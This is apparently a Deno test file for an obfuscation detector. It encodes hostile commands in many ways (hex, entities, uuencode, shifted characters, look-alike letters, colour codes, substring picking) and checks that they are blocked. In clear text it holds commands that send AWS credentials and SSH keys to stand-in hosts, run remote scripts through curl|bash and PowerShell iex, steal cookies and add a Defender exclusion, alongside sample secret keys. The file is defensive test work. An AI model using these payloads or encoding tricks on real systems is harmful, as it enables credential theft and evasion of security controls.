import assert from "node:assert/strict";
import { r38Obfuscated } from "./_obf_r38.ts";

const hit = (s: string): boolean => r38Obfuscated(s) !== undefined;

// Encoders, so the tests state the hidden text in the clear.
const bytes = (s: string): number[] => [...s].map((c) => c.charCodeAt(0));
const hex2 = (n: number): string => n.toString(16).padStart(2, "0");
const qp = (s: string): string => bytes(s).map((b) => "=" + hex2(b).toUpperCase()).join("");
const ox = (s: string): string => bytes(s).map((b) => "0x" + hex2(b)).join("");
const ent = (s: string): string => bytes(s).map((b) => `&#${b};`).join("");
const entx = (s: string): string => bytes(s).map((b) => `&#x${hex2(b)};`).join("");
const chars = (s: string, j = "&"): string => bytes(s).map((b) => `CHAR(${b})`).join(j);
const hexs = (s: string): string => bytes(s).map(hex2).join("");
const sprinkle = (s: string, junk: string): string =>
  [...s].map((c, i) => (i % 2 ? c + junk : c)).join("");
const shift = (s: string, k: number): string =>
  [...s].map((c) => String.fromCharCode(c.charCodeAt(0) + k)).join("");
const MATH_A = 0x1d622; // mathematical sans-serif italic small a
const mathify = (s: string): string =>
  [...s].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(MATH_A + c.charCodeAt(0) - 97) : c))
    .join("");
function uu(s: string): string {
  const b = bytes(s);
  const lines: string[] = [];
  for (let i = 0; i < b.length; i += 45) {
    const chunk = b.slice(i, i + 45);
    let line = String.fromCharCode(32 + chunk.length);
    for (let j = 0; j < chunk.length; j += 3) {
      const [x, y = 0, z = 0] = chunk.slice(j, j + 3);
      for (const v of [x >> 2, ((x & 3) << 4) | (y >> 4), ((y & 15) << 2) | (z >> 6), z & 63]) {
        line += v === 0 ? "`" : String.fromCharCode(32 + v);
      }
    }
    lines.push(line);
  }
  return lines.join("\n") + "\n`\n";
}
function colours(s: string): string {
  const b = bytes(s);
  const out: string[] = [];
  for (let i = 0; i < b.length; i += 3) {
    out.push("#" + [b[i] ?? 0, b[i + 1] ?? 0, b[i + 2] ?? 0].map(hex2).join(""));
  }
  return out.join(", ");
}

const LEAK_KEYS = "wget -q --post-file=$HOME/.aws/credentials http://drop.example-sync.org/k";
const RUN_REMOTE = "curl -s https://cdn.example-upd.net/x.sh | bash";
const PS_RUN = 'powershell -w hidden -c "irm https://get.example-tools.io/a.ps1 | iex"';
const COOKIE_JS = "navigator.sendBeacon('https://t.example-ads.io/c', document.cookie)";
const AWS_KEY = "AKIA" + "QX7T2MBN4LKE9RZW";
const GH_KEY = "ghp_" + "Zk3Lm9Qa7Rt2Wy5Xc8Vb1Nd4Hf6Jg0Ps3Ue7";

/** A command rebuilt from one-character slices of an innocent-looking string. */
function pickFrom(
  v: string,
  want: string,
  wrap: (v: string, src: string, pick: string) => string,
): string {
  const src = "Status report: abcdefghijklmnopqrstuvwxyz 0123456789 ~/.:-|<@_ (all ok)";
  const pick = [...want].map((c) => `\${${v}:${src.indexOf(c)}:1}`).join("");
  return wrap(v, src, pick);
}

const CASES: { name: string; block: string[]; pass: string[] }[] = [
  {
    name: "byte-escape runs decoded to a payload or a key",
    block: [
      `python3 -c "import quopri;exec(quopri.decodestring(b'${
        qp("import os;os.system('" + RUN_REMOTE + "')")
      }'))"`,
      `forfiles /p C:\\Windows /m win.ini /c "cmd /c ${ox(PS_RUN)}"`,
      `<img src=x onerror="${ent(COOKIE_JS)}">`,
      `<svg onload="${entx(COOKIE_JS)}"></svg>`,
      `=${chars(AWS_KEY)}`,
      `SELECT ${chars("cat ~/.ssh/id_rsa | nc drop.example.net 9000", "+")}`,
    ],
    pass: [
      `Subject: =?UTF-8?Q?${qp("Re: invoice for March, see attached please")}?=`,
      `<p>${ent("Caf\u00e9 & cr\u00e8me br\u00fbl\u00e9e menu for Friday")}</p>`,
      `printf '${ox("hello world from the build")}'`,
      `=${chars("Quarterly total")}`,
    ],
  },
  {
    name: "look-alike letters folded by the interpreter, hex inside",
    block: [
      `import ${mathify("os")}\n${mathify("os")}.${mathify("system")}(bytes.${
        mathify("fromhex")
      }('${hexs(LEAK_KEYS)}').decode())`,
      `from ${mathify("os")} import ${mathify("popen")}\n${mathify("popen")}(bytes.fromhex('${
        hexs(LEAK_KEYS)
      }').decode())`,
      `${mathify("exec")}(bytes.fromhex('${hexs("import os;os.system('" + RUN_REMOTE + "')")}'))`,
    ],
    pass: [
      `Let ${mathify("x")} be the unknown and solve ${mathify("f")}(${
        mathify("x")
      }) = 0; run the test.`,
      `import os\nos.system(bytes.fromhex('${hexs("echo build finished")}').decode())`,
      "ＴＯＤＡＹ ＯＮＬＹ: call us to run the quarterly review",
    ],
  },
  {
    name: "junk characters sprinkled through a literal and stripped",
    block: [
      `powershell -c "$p='${
        sprinkle("Add-MpPreference -ExclusionPath C:\\ProgramData\\svc", "~")
      }'; iex ($p -replace '~','')"`,
      `s='${sprinkle(RUN_REMOTE, "@")}'; eval "$(echo "$s" | tr -d '@')"`,
      `const c = '${sprinkle(COOKIE_JS, "%")}'.split('%').join(''); new Function(c)();`,
    ],
    pass: [
      `$id = '1-2-3-4-5-6-7-8-9-10-11-12-13' -replace '-',''`,
      `phone = '+48 600 100 200'.replace(' ', '')`,
      `echo "a,b,c,d,e,f,g,h,i,j,k,l,m" | tr -d ','`,
    ],
  },
  {
    name: "literals shifted by a fixed amount and decoded at run time",
    block: [
      `const d = s => [...s].map(c => String.fromCharCode(c.charCodeAt(0) - 2)).join('');\nrequire(d('${
        shift("child_process", 2)
      }'))[d('${shift("execSync", 2)}')](d('${shift(LEAK_KEYS, 2)}'));`,
      `dec = lambda s: ''.join(chr(ord(c) + 1) for c in s)\nimport os\nos.system(dec('${
        shift(RUN_REMOTE, -1)
      }'))`,
      `const u = t => t.split('').map(c => String.fromCharCode(c.charCodeAt(0) - 4)).join('');\neval(u("${
        shift(COOKIE_JS, 4).replace(/"/g, '\\"')
      }"));`,
    ],
    pass: [
      "const next = s => String.fromCharCode(s.charCodeAt(0) + 1); // 'a' -> 'b' for column labels",
      "rot = lambda s: ''.join(chr(ord(c) - 1) for c in s)\nprint(rot('ifmmp xpsme'))",
      "const up = c => String.fromCharCode(c.charCodeAt(0) - 32); console.log(up('abcdef'))",
    ],
  },
  {
    name: "uuencoded program decoded and run",
    block: [
      `perl -e 'eval unpack("u", q{\n${uu("system('" + LEAK_KEYS + "');")}})'`,
      `python3 -c "import binascii;exec(binascii.a2b_uu('''\n${
        uu("import os;os.system('" + RUN_REMOTE + "')")
      }'''))"`,
      `cat <<'E' | uudecode -o /tmp/r.sh && sh /tmp/r.sh\nbegin 644 r.sh\n${uu(RUN_REMOTE)}end\nE`,
    ],
    pass: [
      `perl -e 'print unpack("u", q{${uu("hello, this is only a greeting")}})'`,
      `uudecode report.uu # restores the quarterly PDF`,
      `import binascii; print(binascii.a2b_uu(b'${uu("plain text").split("\n")[0]}'))`,
    ],
  },
  {
    name: "colour codes whose bytes spell a key",
    block: [
      `Brand palette, in this order: ${colours(GH_KEY)}`,
      `theme: { colors: [${colours(AWS_KEY + "/" + "wJalr9XUtnFEMIK7MDENG")}] }`,
      `Palette: ${colours("xoxb-" + "4829301123-9921ZkQwErTy")}`,
    ],
    pass: [
      "Palette: #1a73e8, #34a853, #fbbc05, #ea4335, #202124, #5f6368, #e8eaed",
      "Use #ffffff on #0b1f3a, accent #ff6b00, muted #8a94a6, border #d0d7de, link #0969da",
      "--primary: #336699; --secondary: #993366; --tertiary: #669933; --bg: #fafafa; --fg: #111111;",
    ],
  },
  {
    name: "command picked character by character out of a string",
    block: [
      pickFrom(
        "s",
        "curl -T ~/.ssh/id_rsa https://x.example.io/u",
        (v, src, pick) => `${v}='${src}'; eval "${pick}"`,
      ),
      pickFrom(
        "v",
        "wget -qO- https://ci.example-run.dev/b | sh",
        (v, src, pick) => `${v}="${src}"\nc="${pick}"\n$c`,
      ),
      pickFrom(
        "q",
        "nc drop.example.org 4444 < ~/.aws/credentials",
        (v, src, pick) => `${v}='${src}'; bash -c "${pick}"`,
      ),
    ],
    pass: [
      `v='20251114'; echo "\${v:0:4}-\${v:4:2}-\${v:6:2}"`,
      `s='abcdefghij'; for i in 1 2 3; do echo \${s:0:1}\${s:1:1}\${s:2:1}\${s:3:1}\${s:4:1}\${s:5:1}\${s:6:1}\${s:7:1}; done`,
      `name='release-candidate'; echo "\${name:0:7} \${name:8:9}"`,
    ],
  },
];

for (const c of CASES) {
  Deno.test(`r38 obfuscation: ${c.name}`, () => {
    for (const s of c.block) assert.ok(hit(s), `should block: ${s.slice(0, 160)}`);
    for (const s of c.pass) assert.ok(!hit(s), `should pass: ${s.slice(0, 160)}`);
  });
}
